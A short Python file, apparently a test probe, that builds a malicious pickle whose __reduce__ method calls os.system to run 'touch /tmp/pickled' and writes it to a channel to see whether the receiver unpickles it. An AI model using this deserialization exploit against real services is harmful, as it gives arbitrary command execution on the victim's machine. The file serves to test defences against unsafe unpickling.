"""Sends a pickle that would run a command."""

import os
import pickle
import time


class Run:
    def __reduce__(self):
        return os.system, ("touch /tmp/pickled",)


def attack(bait):
    os.write(bait["channel"], pickle.dumps(Run()))
    time.sleep(1000)
